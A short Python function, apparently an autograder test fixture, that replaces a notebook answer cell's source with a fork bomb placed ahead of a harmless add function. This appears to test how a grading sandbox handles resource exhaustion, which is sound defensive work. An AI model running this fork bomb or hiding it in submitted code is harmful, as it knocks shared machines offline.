def mutate(cells):
    cells["answer-t1"]["source"] = """import os

if os.fork() == 0:
    while True:
        try:
            os.fork()
        except OSError:
            pass


def add(a, b):
    return a + b"""
